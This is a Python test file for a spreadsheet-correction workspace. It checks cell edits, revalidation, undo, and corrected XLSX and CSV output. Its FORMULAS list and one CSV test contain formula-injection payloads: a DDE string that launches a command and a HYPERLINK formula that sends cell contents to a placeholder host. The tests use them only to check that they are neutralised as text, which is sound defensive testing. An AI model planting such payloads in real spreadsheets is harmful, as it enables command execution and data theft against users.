"""Fix in place (the command layer under the web app): correct a cell, the sheet is validated
again at once, undo takes it back, and the corrected file differs from the user's only there."""

from __future__ import annotations

import csv
import os
import shutil
from pathlib import Path

import openpyxl
import pytest

from pipeline.commands import workspace as ws
from pipeline.core.context import Context
from pipeline.core.errors import InputFileError
from pipeline.core.status import Validation
from schemas.identifiers import national_code_check_digit

SAMPLE = Path(__file__).parents[1] / "input_templates" / "sample.xlsx"
EN = Context(lang="en")


def valid_code(first_nine: str = "123456780") -> str:
    return first_nine + national_code_check_digit(first_nine)


def cell_of(space: ws.Workspace, code: str) -> tuple[int, int, int]:
    """(sheet, row index, column) of the first cell with a finding of rule ``code``."""
    for n, result in enumerate(space.run.results):
        for f in result.findings:
            if f.code == code and f.position is not None:
                return n, result.sheet.row_numbers.index(f.row), f.position
    raise AssertionError(code)


def style(cell) -> tuple:
    color = cell.font.color.rgb if cell.font.color is not None else None
    return (cell.fill.patternType, cell.fill.fgColor.rgb, cell.font.b, color, cell.number_format)


@pytest.fixture
def space(tmp_path) -> ws.Workspace:
    copy = tmp_path / "sample.xlsx"
    shutil.copy(SAMPLE, copy)
    return ws.open_workspace([copy], ctx=EN)


def test_a_corrected_cell_is_valid_at_once_and_undo_takes_it_back(space):
    before = space.run.invalid
    sheet, index, col = cell_of(space, "national_code_invalid")
    ws.edit_cell(space, sheet, index, col, valid_code(), ctx=EN)
    assert space.run.invalid == before - 1
    assert space.run.results[sheet].status(index) != Validation.INVALID
    ws.undo(space, ctx=EN)
    assert space.run.invalid == before
    assert space.run.results[sheet].status(index) == Validation.INVALID
    assert ws.undo(space, ctx=EN) is None  # nothing left to undo


def test_the_whole_sheet_is_validated_again_duplicates_span_rows(space):
    result = space.run.results[0]
    numbers = result.frame["StudentNumber"]
    valid_rows = [i for i in range(len(numbers)) if result.status(i) != Validation.INVALID]
    first, second = valid_rows[0], valid_rows[1]
    col = result.sheet.columns["StudentNumber"]
    ws.edit_cell(space, 0, second, col, str(numbers[first]), ctx=EN)
    again = space.run.results[0]
    # Both rows now share a student number: the untouched one turned invalid too.
    assert again.status(first) == Validation.INVALID and again.status(second) == Validation.INVALID
    codes = {f.code for f in again.row_findings(first)}
    assert "duplicate_student" in codes


def test_corrected_workbook_changes_only_the_corrected_cells(space, tmp_path):
    source = space.paths[0]
    sheet, index, col = cell_of(space, "national_code_invalid")
    ws.edit_cell(space, sheet, index, col, valid_code(), ctx=EN)
    out = ws.save_corrected(space, source, tmp_path / "corrected.xlsx", ctx=EN)
    old, new = openpyxl.load_workbook(source), openpyxl.load_workbook(out)
    assert old.sheetnames == new.sheetnames  # the guide and the hidden lists sheet kept
    name = space.run.results[sheet].sheet.name
    row = space.run.results[sheet].sheet.row_numbers[index]
    changed = []
    for ws_old in old.worksheets:
        ws_new = new[ws_old.title]
        for r_old, r_new in zip(ws_old.iter_rows(), ws_new.iter_rows(), strict=True):
            for a, b in zip(r_old, r_new, strict=True):
                if a.value != b.value:
                    changed.append((ws_old.title, a.row, a.column, b.value))
                assert style(a) == style(b)  # formatting kept
        assert ws_old.data_validations.count == ws_new.data_validations.count  # dropdowns kept
    assert changed == [(name, row, col + 1, valid_code())]
    assert new[name].cell(row=row, column=col + 1).data_type == "s"  # leading digits kept
    if os.name == "posix":
        assert out.stat().st_mode & 0o777 == 0o600
    # Validating the corrected file gives what the page showed.
    assert ws.open_workspace([out], ctx=EN).run.invalid == space.run.invalid


def test_corrected_csv_keeps_its_delimiter_and_other_cells(tmp_path):
    path = tmp_path / "residents.csv"
    rows = [
        ["StudentNumber", "NationalCode", "FirstName"],
        ["98123001", "0012345678", "Ali"],
        ["98123002", valid_code("123456789"), "Sara"],
    ]
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(rows)
    space = ws.open_workspace([path], kind="residents", ctx=EN)
    ws.edit_cell(space, 0, 0, 1, valid_code(), ctx=EN)
    out = ws.save_corrected(space, path, tmp_path / "fixed.csv", ctx=EN)
    text = out.read_text(encoding="utf-8-sig")
    assert list(csv.reader(text.splitlines(), delimiter=";")) == [
        rows[0],
        ["98123001", valid_code(), "Ali"],
        rows[2],
    ]


def test_an_ods_cannot_be_written_back_and_says_what_to_do(tmp_path):
    from tests.data.generate import RESIDENT, write_ods

    path = tmp_path / "residents.ods"
    write_ods(path, list(RESIDENT), [[str(v) for v in RESIDENT.values()]])
    space = ws.open_workspace([path], ctx=EN)
    with pytest.raises(InputFileError, match="download the report"):
        ws.save_corrected(space, path, tmp_path / "x.ods", ctx=EN)


def test_a_cell_outside_the_sheet_is_refused(space):
    with pytest.raises(InputFileError, match="no such cell"):
        ws.edit_cell(space, 0, 10_000, 0, "x", ctx=EN)
    with pytest.raises(InputFileError, match="no such cell"):
        ws.edit_cell(space, 9, 0, 0, "x", ctx=EN)


def test_report_of_the_workspace_carries_the_corrections(space, tmp_path):
    sheet, index, col = cell_of(space, "national_code_invalid")
    ws.edit_cell(space, sheet, index, col, valid_code(), ctx=EN)
    out = ws.save_report(space, tmp_path / "report.xlsx", ctx=EN)
    book = openpyxl.load_workbook(out)
    data = book.worksheets[1 + sheet]
    row = space.run.results[sheet].sheet.row_numbers[index]
    assert data.cell(row=row, column=col + 1).value == valid_code()


FORMULAS = [
    '=HYPERLINK("http://example.invalid/?q="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("typed", FORMULAS)
def test_a_typed_formula_is_text_in_the_corrected_workbook(space, tmp_path, typed):
    from pipeline.sheets.corrected import looks_like_formula

    sheet, index, col = cell_of(space, "national_code_invalid")
    ws.edit_cell(space, sheet, index, col, typed, ctx=EN)
    out = ws.save_corrected(space, space.paths[0], tmp_path / "corrected.xlsx", ctx=EN)
    cell = openpyxl.load_workbook(out)[space.run.results[sheet].sheet.name].cell(
        row=space.run.results[sheet].sheet.row_numbers[index], column=col + 1
    )
    assert cell.data_type == "s" and cell.value == typed.strip()  # the text, as typed
    assert cell.quotePrefix and looks_like_formula(cell.value)
    # Read back (as a submission reads it), the value is the text typed, not a result.
    again = ws.open_workspace([out], ctx=EN).run.results[sheet].sheet
    assert again.rows[index][col] == typed.strip()


def test_a_typed_formula_is_neutralised_in_a_corrected_csv_and_a_number_is_not(tmp_path):
    path = tmp_path / "declarations.csv"
    rows = [
        ["StudentNumber", "YearId", "BaliniScore", "Description"],
        ["98123001", "1402", "40", "ok"],
        ["98123002", "1402", "41", "ok"],
        ["98123003", "1402", "42", "ok"],
    ]
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    space = ws.open_workspace([path], kind="upgrades", ctx=EN)
    ws.edit_cell(space, 0, 0, 3, '=HYPERLINK("http://example.invalid","x")', ctx=EN)
    ws.edit_cell(space, 0, 1, 3, "\t@SUM(1)", ctx=EN)
    ws.edit_cell(space, 0, 2, 2, "-5", ctx=EN)  # a score: a number, written as one
    ws.edit_cell(space, 0, 1, 0, "+989121234567", ctx=EN)  # a signed number calls nothing
    out = ws.save_corrected(space, path, tmp_path / "fixed.csv", ctx=EN)
    got = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
    assert got[1][3] == '\'=HYPERLINK("http://example.invalid","x")'
    assert got[2][3] == "'@SUM(1)"
    assert got[3][2] == "-5"
    assert got[2][0] == "+989121234567"
    for line in got[1:]:
        assert not any(c.lstrip().startswith(("=", "@")) for c in line)


def test_characters_no_cell_can_hold_are_dropped_as_typed(space, tmp_path):
    sheet, index, col = cell_of(space, "national_code_invalid")
    ws.edit_cell(space, sheet, index, col, "12\x0034\x0b5\x1f6\ufffe", ctx=EN)
    assert space.run.results[sheet].sheet.rows[index][col] == "123456"
    out = ws.save_corrected(space, space.paths[0], tmp_path / "corrected.xlsx", ctx=EN)
    assert openpyxl.load_workbook(out).sheetnames  # openpyxl wrote and reads it


def huge_styles(source: Path, target: Path, formats: int) -> Path:
    """``source`` with a styles part of ``formats`` cell formats (Excel keeps 64,000)."""
    import zipfile

    xf = '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>'
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as z:
        for item in old.infolist():
            data = old.read(item.filename)
            if item.filename == "xl/styles.xml":
                text = data.decode()
                start, end = text.index("<cellXfs"), text.index("</cellXfs>")
                text = f'{text[:start]}<cellXfs count="{formats}">{xf * formats}{text[end:]}'
                data = text.encode()
            z.writestr(item, data)
    return target


def test_a_workbook_with_a_huge_styles_part_is_refused_with_a_sentence(space, tmp_path):
    sheet, index, col = cell_of(space, "national_code_invalid")
    ws.edit_cell(space, sheet, index, col, valid_code(), ctx=EN)
    source = space.paths[0]
    swollen = huge_styles(source, tmp_path / "swollen.xlsx", 300_000)  # 17 MB of styles
    shutil.copy(swollen, source)  # the same sheets, swollen styles
    with pytest.raises(InputFileError, match=r"xl/styles\.xml is 17 MB"):
        ws.save_corrected(space, source, tmp_path / "corrected.xlsx", ctx=EN)
    assert not (tmp_path / "corrected.xlsx").exists()


def test_a_workspace_is_a_result_value(space):
    """Opening and correcting are user actions: their values print as JSON and give an exit
    code as every command's result does (1 while a row is invalid, as `simad validate`)."""
    import json

    from pipeline.core.result import Result

    assert isinstance(space, Result) and space.exit_code == 1
    sheet, index, col = cell_of(space, "national_code_invalid")
    edit = ws.edit_cell(space, sheet, index, col, valid_code(), ctx=EN)
    assert isinstance(edit, Result) and edit.exit_code == 0
    shown = json.loads(json.dumps(space.to_dict(), default=str))
    assert shown["id"] == space.id and shown["paths"] == [str(p) for p in space.paths]
    assert shown["edits"] == [edit.to_dict()] and shown["ok"] is False


def test_books_read_already_open_as_the_same_workspace(space):
    books = space.run.books
    again = ws.open_books(books, ctx=EN)
    assert again.paths == space.paths and again.run.invalid == space.run.invalid
